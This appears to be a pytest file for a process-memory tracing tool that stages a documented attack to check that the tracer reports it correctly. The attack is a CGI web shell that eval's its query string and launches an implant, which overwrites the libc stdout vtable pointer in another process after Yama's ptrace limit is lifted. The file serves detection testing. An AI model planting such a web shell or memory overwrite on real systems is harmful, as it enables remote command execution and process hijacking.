# SPDX-License-Identifier: Apache-2.0
"""The attack that docs/reading.md explains: a program that a web shell starts puts a pointer of its own into the data of
another process's C library. It is carried out, and each key that the page shows is there and says what it says there."""

import ctypes
import json
import os
import pwd
import re
import shutil
import socket
import subprocess
import sys
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import pytest

from pvm import ROOT, TRIGGERS, Tracer, expect_call, poll

PAGE = ROOT / "docs" / "reading.md"
README = ROOT / "README.md"
SHELL = """#!/bin/sh
printf 'Content-Type: text/plain\\r\\n\\r\\n'
eval "$(busybox httpd -d "$QUERY_STRING")"
"""
# Yama lets a process name who may reach into it; what there is without Yama does not matter here.
WORKER = """
import ctypes, time
ctypes.CDLL(None).prctl(0x59616d61, ctypes.c_ulong(2**64 - 1))
print("ready", flush=True)
time.sleep(600)
"""
# Whatever proxy the environment names.
DIRECTLY = urllib.request.build_opener(urllib.request.ProxyHandler({}))
# Where the pointer to the functions of a C library's stream stands in the stream.
VTABLE = 216

# What each run has of its own, and each machine, by its place; of a path the last name counts.
OWN = re.compile(r".*\.(pid|arg|start|end|base|offset|hex|inferred|loginuid)|caller\.args\.[12]|target\.exe")
PATHS = re.compile(r".*\.(exe|file|args\.0)")


def stdout_in_libc():
    """Where the pointer of the stream stdout lies in the C library's file, and that file."""
    at = ctypes.addressof(ctypes.c_char.in_dll(ctypes.CDLL(None), "_IO_2_1_stdout_")) + VTABLE
    for line in Path("/proc/self/maps").read_text().splitlines():
        span, perms, offset, _, _, *path = line.split()
        start, end = (int(x, 16) for x in span.split("-"))
        if start <= at < end:
            assert perms == "rw-p"
            return at - start + int(offset, 16), path[0]
    raise AssertionError("it is mapped nowhere")


class Site:
    """A web server with a web shell, a worker of the same account, and the program that the shell can start."""

    def __init__(self, where):
        account = pwd.getpwnam("www-data")
        who = {"user": account.pw_uid, "group": account.pw_gid, "extra_groups": []}
        shell = where / "www" / "cgi-bin" / "status.cgi"
        shell.parent.mkdir(parents=True)
        shell.write_text(SHELL)
        self.upd = where / "upd"
        shutil.copy(TRIGGERS / "pvmimplant", self.upd)
        (where / "httpd").symlink_to(shutil.which("busybox"))
        for path in (where, *where.rglob("*")):
            path.chmod(0o755)
        with socket.create_server(("127.0.0.1", 0)) as s:
            self.port = s.getsockname()[1]
        self.server = subprocess.Popen([where / "httpd", "-f", "-p", f"127.0.0.1:{self.port}", "-h", where / "www"],
                                       start_new_session=True, **who)
        self.worker = subprocess.Popen([sys.executable, "-c", WORKER], stdout=subprocess.PIPE, **who)
        assert self.worker.stdout.readline() == b"ready\n"
        poll(self.answers)

    def ask(self, command):
        """What the shell says to it."""
        url = f"http://127.0.0.1:{self.port}/cgi-bin/status.cgi?{urllib.parse.quote(command)}"
        with DIRECTLY.open(url, timeout=60) as answer:
            return answer.read().decode()

    def answers(self):
        try:
            return self.ask("echo yes") == "yes\n"
        except urllib.error.URLError:
            return False

    def close(self):
        for process in (self.server, self.worker):
            process.kill()
            process.wait()
        self.worker.stdout.close()


@pytest.fixture(name="site")
def site_with_a_shell():
    where = Path("/tmp") / f"pvm-reading-{os.getpid()}"
    where.mkdir()
    site = Site(where)
    try:
        yield site
    finally:
        site.close()
        shutil.rmtree(where)


def samples():
    """The JSON of the page. What it leaves out it says by a sign."""
    text = re.sub(r"(,\s*)?…", "", PAGE.read_text())
    return [json.loads(block) for block in re.findall(r"^```json\n(.*?)^```", text, re.M | re.S)]


def agree(shown, told, place=""):
    """Whether what the page shows is there, and the same but for what each run has of its own."""
    if isinstance(shown, dict):
        for key, value in shown.items():
            assert key in told, f"{place}: no {key}"
            agree(value, told[key], f"{place}.{key}" if place else key)
    elif isinstance(shown, list):
        assert len(told) >= len(shown), f"{place}: {told}"
        for number, value in enumerate(shown):
            agree(value, told[number], f"{place}.{number}")
    elif OWN.fullmatch(place):
        assert shown is None or isinstance(told, type(shown)), f"{place}: {told}"
    elif PATHS.fullmatch(place) and shown:
        assert told and os.path.basename(shown) == os.path.basename(told), f"{place}: {told}"
    else:
        assert shown == told, f"{place}: {told}"


def answers(events, where):
    """What the page's commands make of these lines: of each how many."""
    (where / "events.ndjson").write_text("".join(json.dumps(e) + "\n" for e in events))
    commands = re.findall(r"^jq .*$", PAGE.read_text(), re.M)
    return [len(subprocess.run(["sh", "-c", command], cwd=where, stdout=subprocess.PIPE, check=True).stdout.splitlines())
            for command in commands]


def alike(line):
    """Without what each run has of its own: numbers of processes, addresses, and how it is aligned."""
    return re.sub(r"\(\d+\)", "(1)", re.sub(r"0x[0-9a-f]+", "0x1", " ".join(line.split())))


@pytest.mark.needs("program:busybox", "sources")
def test_the_line_of_the_readme(site):
    """What a person sees of it first: the last of its calls, up to where the line there ends."""
    shown, = re.findall(r"^  `(upd\(\d+\) .*) …`$", README.read_text(), re.M)
    offset, _ = stdout_in_libc()
    with Tracer("-f", "text", "-v", "--caller-comm", "upd", read=False) as t:
        t.wait_written()
        site.ask(f"{site.upd} {site.worker.pid} {offset:x}")
        t.stop()
        *_, line = (line for line in t.proc.stdout.read().decode().splitlines() if f"({site.worker.pid})" in line)
    assert alike(line.partition(" ")[2]).startswith(alike(shown)), line


@pytest.mark.needs("program:busybox", "program:jq")
def test_the_attack_is_told_as_the_page_says(site, tmp_path):
    offset, libc = stdout_in_libc()
    with Tracer("--data", 64) as t:
        facts = json.loads(site.ask(f"{site.upd} {site.worker.pid} {offset:x}"))
        events = t.of(facts["pid"])
    assert len(events) == 3
    for event, call in zip(events, facts["calls"]):
        expect_call(event, call)
        assert call["ret"] > 0
    look, table, pointer = events
    assert pointer["target"]["pid"] == site.worker.pid and pointer["caller"]["exe"] == str(site.upd)
    assert [a["comm"] for a in pointer["caller"]["ancestors"]][:3] == ["status.cgi", "httpd", "httpd"]
    assert pointer["caller"]["ancestors"][2]["pid"] == site.server.pid
    assert look["remote"]["regions"] == pointer["remote"]["regions"]
    region, = pointer["remote"]["regions"]
    assert (region["file"], region["perms"], int(region["offset"], 16)) == (libc, "rw-p", offset)
    assert [r["kind"] for r in table["remote"]["regions"]] == ["heap"]
    put = int(table["remote"]["iov"][0]["base"], 16)
    assert int.from_bytes(bytes.fromhex(pointer["data"]["hex"]), sys.byteorder) == put
    shown = samples()
    assert len(shown) > 3
    for sample in shown:
        agree(sample, next(e for e in events if (e["op"], e["ret"]) == (sample["op"], sample["ret"])))
    assert answers([t.start, *events], tmp_path) == [3, 1]
